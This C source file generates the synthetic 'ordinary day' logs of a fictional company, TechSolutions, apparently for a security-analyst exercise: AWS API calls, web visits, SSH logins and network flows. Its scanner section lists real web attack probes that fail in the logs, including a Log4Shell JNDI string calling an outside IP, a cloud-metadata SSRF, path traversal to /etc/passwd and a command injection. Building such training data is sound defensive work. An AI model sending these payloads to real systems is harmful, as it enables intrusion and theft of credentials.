/* The ordinary day of TechSolutions: what an analyst must not accuse. */
#include "app/scenario_parts.h"

#include <stdio.h>
#include <string.h>

static const char *const desk_agents[] = {
	"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
	"Gecko) Version/17.5 Safari/605.1.15",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	"Chrome/126.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
	"like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
	NULL
};
static const char *const tool_agents[] = {
	"aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/linux#6.1.0 md/arch#x86_64 "
	"lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#standard md/command#s3.ls",
	"Boto3/1.34.140 md/Botocore#1.34.140 ua/2.0 os/linux#6.1.0-22-amd64 md/arch#x86_64 "
	"lang/python#3.11.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.140",
	"APN/1.0 HashiCorp/1.0 Terraform/1.9.2 (+https://www.terraform.io) "
	"terraform-provider-aws/5.58.0 "
	"(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.30.1",
	"aws-sdk-js/3.614.0 ua/2.0 os/linux#6.1.0 lang/js md/nodejs#20.15.0 api/s3#3.614.0",
	NULL
};
static const char *const server_agent =
	"aws-sdk-java/2.26.12 Linux/6.1.0-22-cloud-amd64 OpenJDK_64-Bit_Server_VM/17.0.11+9 "
	"Java/17.0.11 vendor/Debian io/sync http/Apache cfg/retry-mode/legacy";

void scenario_calm_cast(struct scenario_stage *st)
{
	static const char *const names[] = { "ana.garcia", "luis.ortega", "sofia.castro",
		"pablo.nieto", "elena.rivas", "diego.luna", "carmen.vega", "ivan.soler" };
	struct scenario *s = st->s;
	struct dice *d = &st->dice;
	size_t first = (size_t)dice_between(d, 0, 7);
	char id[20], key[20];

	st->office_ip = scenario_address(st);
	for (size_t i = 0; i < 4; i++) {
		st->home_ip[i] = scenario_address(st);
	}
	st->agent_ci = dice_pick(d, tool_agents);
	st->n_people = (size_t)dice_between(d, 3, 6);
	for (size_t i = 0; i < st->n_people; i++) {
		bool console = i % 2 == 0;

		dice_text(d, DICE_UPPER, 16, id);
		dice_text(d, DICE_UPPER, 16, key);
		st->people[i] = (struct scenario_who){ .user = names[(first + i) % 8],
			.id = scenario_text(s, "AIDA%s", id),
			.key = scenario_text(s, "%s%s", console ? "ASIA" : "AKIA", key),
			.mfa = console,
			.since = s->begin_ms + dice_between(d, 1, 50) * MINUTE,
			.ip = dice_chance(d, 70) ? st->office_ip : st->home_ip[i % 4],
			.agent = dice_pick(d, console ? desk_agents : tool_agents) };
	}
	st->key_user = (struct scenario_who){ .user = s->names.key_user,
		.id = s->world.key_user_id,
		.key = s->world.key_id,
		.ip = scenario_address(st),
		.agent = st->agent_ci };
	for (int i = 0; i < SCENARIO_SERVERS; i++) {
		st->server[i] = (struct scenario_who){ .user = s->names.role[i],
			.id = s->world.server[i].role_id,
			.session = s->world.server[i].instance_id,
			.delivery = "2.0",
			.ip = s->world.server[i].public_ip,
			.agent = server_agent };
	}
	st->intruder_ip = scenario_address(st);
	st->second_ip = dice_chance(d, 60) ? st->intruder_ip : scenario_address(st);
	/* Long enough before the finding for the attack to play out, late enough to be found in a day's logs. */
	st->attack_ms = s->now_ms - dice_between(d, 35, 120) * MINUTE;
}

static json_t *object_request(const struct scenario *s, const char *object)
{
	return json_pack("{s:s, s:o, s:s}", "bucketName", s->names.files_bucket, "Host",
		json_sprintf("%s.s3.%s.amazonaws.com", s->names.files_bucket, s->world.region),
		"key", object);
}

static const char *any_object(struct scenario_stage *st)
{
	return st->s->names
		.objects[dice_between(&st->dice, 0, (int64_t)st->s->names.n_objects - 1)];
}

/* One person: a sign-in now and then a mistyped password, then a bout of looking around and some work. */
static void write_person(struct scenario_stage *st, const struct scenario_who *who)
{
	static const struct {
		const char *service, *name;
		bool write;
	} work[] = { { "ec2", "DescribeInstances", false },
		{ "ec2", "DescribeSecurityGroups", false }, { "ec2", "DescribeVolumes", false },
		{ "s3", "ListBuckets", false }, { "rds", "DescribeDBInstances", false },
		{ "monitoring", "DescribeAlarms", false },
		{ "cloudtrail", "DescribeTrails", false }, { "iam", "ListRoles", false },
		{ "iam", "GetUser", false },
		{ "elasticloadbalancing", "DescribeLoadBalancers", false },
		{ "autoscaling", "DescribeAutoScalingGroups", false },
		{ "ec2", "CreateTags", true }, { "logs", "DescribeLogGroups", false },
		{ "monitoring", "PutMetricAlarm", true }, { "tagging", "GetResources", false },
		{ "sts", "GetCallerIdentity", false } };
	/* What each may not do: asked for by mistake now and then, and never granted. */
	static const struct {
		const char *service, *name;
	} never[] = { { "organizations", "DescribeOrganization" }, { "ce", "GetCostAndUsage" },
		{ "account", "GetAlternateContact" }, { "health", "DescribeEvents" },
		{ "support", "DescribeCases" } };
	struct dice *d = &st->dice;
	struct scenario *s = st->s;
	int64_t at = who->since;
	size_t pick = (size_t)dice_between(d, 0, sizeof(never) / sizeof(never[0]) - 1);
	const __typeof__(never[0]) *denied = &never[pick];

	if (strncmp(who->key, "ASIA", 4) == 0) {
		if (dice_chance(d, 30)) {
			scenario_trail_sign_in(st->trail, at - 40 * SECOND, who, false);
		}
		scenario_trail_sign_in(st->trail, at, who, true);
	}
	for (int64_t bouts = dice_between(d, 3, 8); bouts > 0 && at < s->now_ms; bouts--) {
		for (int64_t calls = dice_between(d, 4, 18); calls > 0 && at < s->now_ms;
			calls--) {
			size_t k =
				(size_t)dice_between(d, 0, sizeof(work) / sizeof(work[0]) - 1);
			struct scenario_call c = { .at = at,
				.who = who,
				.service = work[k].service,
				.name = work[k].name,
				.write = work[k].write };

			if (dice_chance(d, 4)) {
				c.service = denied->service;
				c.name = denied->name;
				c.write = false;
				c.error = "AccessDenied";
				c.message = scenario_text(s,
					"User: arn:aws:iam::%s:user/%s is not authorized to "
					"perform: %s:%s",
					s->world.account, who->user, c.service, c.name);
			}
			if (dice_chance(d, 8)) {
				c.service = "s3";
				c.name = "GetObject";
				c.write = false;
				c.bucket = s->names.files_bucket;
				c.object = any_object(st);
				c.request = object_request(s, c.object);
			}
			scenario_trail_add(st->trail, c);
			at += dice_between(d, 2, 70) * SECOND;
		}
		at += dice_between(d, 15, 90) * MINUTE;
	}
}

/* The long-term key at its ordinary work: the same few calls, from the same place, at a steady pace. */
static void write_automation(struct scenario_stage *st)
{
	struct dice *d = &st->dice;
	struct scenario *s = st->s;
	int64_t pace = dice_between(d, 18, 40) * MINUTE;

	for (int64_t at = s->begin_ms + dice_between(d, 0, 10) * MINUTE; at < s->now_ms;
		at += pace) {
		int64_t t = at + dice_between(d, 0, 20) * SECOND;
		struct scenario_call c = { .at = t,
			.who = &st->key_user,
			.service = "sts",
			.name = "GetCallerIdentity" };

		scenario_trail_add(st->trail, c);
		for (int64_t n = dice_between(d, 1, 5); n > 0; n--) {
			const char *object = scenario_text(
				s, "releases/build-%lld.zip", (long long)(t / MINUTE % 9000));

			t += dice_between(d, 1, 9) * SECOND;
			scenario_trail_add(st->trail,
				(struct scenario_call){ .at = t,
					.who = &st->key_user,
					.service = "s3",
					.name = dice_chance(d, 60) ? "PutObject" : "GetObject",
					.write = true,
					.bucket = s->names.files_bucket,
					.object = object,
					.request = object_request(s, object) });
		}
	}
}

/* The application on a server: fresh role credentials about every hour, files for its users. */
static void write_server(struct scenario_stage *st, int i)
{
	struct dice *d = &st->dice;
	struct scenario *s = st->s;
	struct scenario_who *who = &st->server[i];
	char key[20];
	int64_t renew = 0;

	for (int64_t at = s->begin_ms; at < s->now_ms; at += dice_between(d, 1, 9) * MINUTE) {
		if (at >= renew) {
			dice_text(d, DICE_UPPER, 16, key);
			who->since = at;
			who->key = scenario_trail_instance_session(
				st->trail, i, at, scenario_text(s, "ASIA%s", key));
			renew = at + dice_between(d, 50, 70) * MINUTE;
		}
		for (int64_t n = dice_between(d, 0, 4); n > 0; n--) {
			const char *object = any_object(st);

			scenario_trail_add(
				st->trail, (struct scenario_call){ .at = at + n * SECOND,
						   .who = who,
						   .service = "s3",
						   .name = "GetObject",
						   .bucket = s->names.files_bucket,
						   .object = object,
						   .request = object_request(s, object) });
		}
		if (dice_chance(d, 30)) {
			scenario_trail_add(st->trail,
				(struct scenario_call){ .at = at + 20 * SECOND,
					.who = who,
					.service = "ssm",
					.name = "UpdateInstanceInformation",
					.write = true,
					.agent = "aws-sdk-go/1.55.5 (go1.22.11; linux; amd64) "
						 "amazon-ssm-agent/3.3.1611.0",
					.request = json_pack("{s:s, s:s}", "instanceId",
						who->session, "agentVersion", "3.3.1611.0") });
		}
	}
}

static void write_services(struct scenario_stage *st)
{
	struct dice *d = &st->dice;
	struct scenario *s = st->s;

	for (int64_t at = s->begin_ms; at < s->now_ms; at += dice_between(d, 4, 14) * MINUTE) {
		scenario_trail_service(st->trail, at, "cloudtrail", "GetBucketAcl",
			json_pack("{s:s}", "bucketName", s->names.trail_bucket));
		if (dice_chance(d, 50)) {
			scenario_trail_service(st->trail, at + 7 * SECOND, "autoscaling",
				"DescribeTargetHealth", NULL);
		}
	}
}

static void write_visits(struct scenario_stage *st)
{
	static const char *const pages[] = { "/", "/projects", "/projects/118",
		"/projects/204/files", "/api/v1/projects", "/api/v1/projects/118/tasks",
		"/static/app.4c1f.js", "/static/site.css", "/login", "/api/v1/me",
		"/reports/weekly", "/favicon.ico", "/preview?src=/files/118/plan.png",
		"/search?q=plano+planta+baja", NULL };
	static const char *const bots[] = {
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", NULL
	};
	struct dice *d = &st->dice;
	struct scenario *s = st->s;

	for (int64_t visits = dice_between(d, 70, 150); visits > 0; visits--) {
		const char *ip = dice_chance(d, 25) ? st->office_ip : scenario_visitor(st);
		const char *agent =
			dice_chance(d, 8) ? dice_pick(d, bots) : dice_pick(d, desk_agents);
		int64_t at = dice_between(d, s->begin_ms, s->now_ms - 10 * MINUTE);

		for (int64_t n = dice_between(d, 2, 12); n > 0; n--) {
			const char *page = dice_pick(d, pages);
			bool posts = strcmp(page, "/login") == 0 && dice_chance(d, 50);

			scenario_web_request(st, (int)dice_between(d, 0, SCENARIO_SERVERS - 1),
				(struct scenario_request){ .at = at,
					.ip = ip,
					.method = posts ? "POST" : "GET",
					.target = page,
					.agent = agent,
					.referer =
						n % 3 == 0
							? "https://www.techsolutions.example/"
							: NULL,
					.status = posts                ? 302
						  : dice_chance(d, 4)  ? 404
						  : dice_chance(d, 12) ? 304
								       : 200,
					.bytes = dice_between(d, 400, 42000) });
			at += dice_between(d, 300, 40000);
		}
	}
}

/* Scanners knock at every door all day, with real exploits among their payloads; none opens. */
static void write_scanners(struct scenario_stage *st)
{
	static const char *const probes[] = { "/.env", "/wp-login.php", "/.git/config",
		"/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/cgi-bin/../../../../bin/sh", "/?url=http://169.254.169.254/latest/meta-data/",
		"/actuator/env", "/server-status", "/index.php?page=../../../../etc/passwd",
		"/api/v1/exec?cmd=id", "/solr/admin/info/system",
		"/?x=${jndi:ldap://203.0.113.250/a}", "/console/login", "/backup.zip", NULL };
	static const char *const agents[] = { "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0",
		"Go-http-client/1.1",
		"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
		"curl/8.5.0", NULL };
	struct dice *d = &st->dice;
	struct scenario *s = st->s;

	for (int64_t scanners = dice_between(d, 2, 5); scanners > 0; scanners--) {
		const char *ip = scenario_address(st), *agent = dice_pick(d, agents);
		int64_t at = dice_between(d, s->begin_ms, s->now_ms - 15 * MINUTE);

		for (int64_t n = dice_between(d, 12, 60); n > 0; n--) {
			scenario_web_request(st, (int)dice_between(d, 0, SCENARIO_SERVERS - 1),
				(struct scenario_request){ .at = at,
					.ip = ip,
					.method = "GET",
					.target = dice_pick(d, probes),
					.agent = agent,
					.status = dice_chance(d, 88) ? 404 : 403,
					.bytes = dice_between(d, 146, 162) });
			at += dice_between(d, 80, 1900);
		}
	}
}

/* People with keys log in; cron runs; strangers guess and give up. */
static void write_log_ins(struct scenario_stage *st, int i)
{
	struct dice *d = &st->dice;
	struct scenario *s = st->s;
	char print[44];

	for (int64_t n = dice_between(d, 2, 6); n > 0; n--) {
		int64_t at = dice_between(d, s->begin_ms, s->now_ms - 20 * MINUTE);
		int pid = scenario_host_pid(st);
		const char *ip = dice_chance(d, 75) ? st->office_ip : st->home_ip[n % 4];

		dice_text(d, DICE_UPPER DICE_HEX, 43, print);
		scenario_host_auth(st, i, at, "sshd", pid,
			"Accepted publickey for admin from %s port %d ssh2: ED25519 SHA256:%s",
			ip, (int)dice_between(d, 40000, 60000), print);
		scenario_host_auth(st, i, at + 90, "sshd", pid,
			"pam_unix(sshd:session): session opened for user admin(uid=1000) by "
			"(uid=0)");
		if (dice_chance(d, 60)) {
			scenario_host_auth(st, i, at + 25 * SECOND, "sudo", 0,
				"   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; "
				"COMMAND=/usr/bin/systemctl status nginx");
		}
		scenario_host_auth(st, i, at + dice_between(d, 2, 18) * MINUTE, "sshd", pid,
			"pam_unix(sshd:session): session closed for user admin");
	}
	for (int64_t at = s->begin_ms + 17 * MINUTE; at < s->now_ms; at += HOUR) {
		int pid = scenario_host_pid(st);

		scenario_host_auth(st, i, at, "CRON", pid,
			"pam_unix(cron:session): session opened for user root(uid=0) by "
			"(uid=0)");
		scenario_host_auth(st, i, at + 400, "CRON", pid,
			"pam_unix(cron:session): session closed for user root");
	}
	for (int64_t n = dice_between(d, 2, 5); n > 0; n--) {
		scenario_host_guesses(st, i, scenario_address(st),
			dice_between(d, s->begin_ms, s->now_ms - 40 * MINUTE),
			(int)dice_between(d, 3, 16));
	}
}

static void write_flows(struct scenario_stage *st, int i)
{
	struct dice *d = &st->dice;
	struct scenario *s = st->s;

	for (int64_t at = s->begin_ms; at < s->now_ms; at += dice_between(d, 1, 5) * MINUTE) {
		const char *ip = scenario_visitor(st), *own = s->world.server[i].private_ip;
		int port = (int)dice_between(d, 1024, 65000);
		int64_t packets = dice_between(d, 6, 90);

		scenario_host_flow(st, i,
			(struct scenario_flow){ .at = at,
				.seconds = 60,
				.from = ip,
				.to = own,
				.from_port = port,
				.to_port = 80,
				.packets = packets,
				.bytes = packets * 70 });
		scenario_host_flow(st, i,
			(struct scenario_flow){ .at = at,
				.seconds = 60,
				.from = own,
				.to = ip,
				.from_port = 80,
				.to_port = port,
				.packets = packets,
				.bytes = packets * 900 });
		if (dice_chance(d, 20)) {
			scenario_host_flow(st, i,
				(struct scenario_flow){ .at = at,
					.seconds = 60,
					.from = scenario_address(st),
					.to = own,
					.from_port = port,
					.to_port = (int)dice_between(d, 1, 9999),
					.packets = 1,
					.bytes = 40,
					.rejected = true });
		}
	}
}

void scenario_calm_write(struct scenario_stage *st)
{
	for (size_t i = 0; i < st->n_people; i++) {
		write_person(st, &st->people[i]);
	}
	write_automation(st);
	write_services(st);
	write_visits(st);
	write_scanners(st);
	for (int i = 0; i < SCENARIO_SERVERS; i++) {
		write_server(st, i);
		write_log_ins(st, i);
		write_flows(st, i);
	}
}
